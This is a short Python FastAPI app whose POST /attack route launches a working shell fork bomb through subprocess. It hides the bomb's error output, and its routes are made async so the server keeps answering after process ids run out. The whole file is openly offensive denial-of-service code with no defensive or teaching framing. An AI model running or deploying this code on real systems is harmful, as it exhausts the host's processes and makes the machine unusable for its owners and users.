"""A FastAPI app that starts a fork bomb when POST /attack is called: a shell
whose function calls itself twice in the background, forever. The routes are
async so that answering needs no new thread once the pids are exhausted."""
import subprocess

from fastapi import FastAPI

app = FastAPI()
state = {"bomb_pid": None}


@app.get("/")
async def index():
    return {"message": "hello from the fork bomb"}


@app.post("/attack")
async def attack():
    # The shell's complaints ("Cannot fork") would only flood the log.
    bomb = subprocess.Popen(["sh", "-c", "b() { b | b & }; b"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    state["bomb_pid"] = bomb.pid
    return state
